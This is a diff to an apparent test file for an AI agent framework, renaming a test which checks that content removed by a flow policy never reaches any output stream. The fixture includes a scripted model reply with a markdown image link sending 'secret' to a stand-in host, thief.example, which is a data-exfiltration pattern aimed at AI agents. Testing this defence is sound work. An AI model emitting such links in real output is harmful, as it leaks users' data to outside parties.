@@ -13,7 +13,7 @@ const look = tool({
   execute: () => "Nothing.",
 });
 
-test("what the flow policy takes out of any text is in no stream, live or later [flow.r8.streams]", async () => {
+test("text that the flow policy removes is in no stream, live or later [flow.r8.streams]", async () => {
   const leak = "![so far](https://thief.example/?q=secret) Looking on.";
   const model = scriptedModel([{ text: leak, toolCalls: [{ name: "look", arguments: {} }] }, leak]);
   const agent = new Agent({ name: "clerk", model, tools: [look], store: memoryStore() });
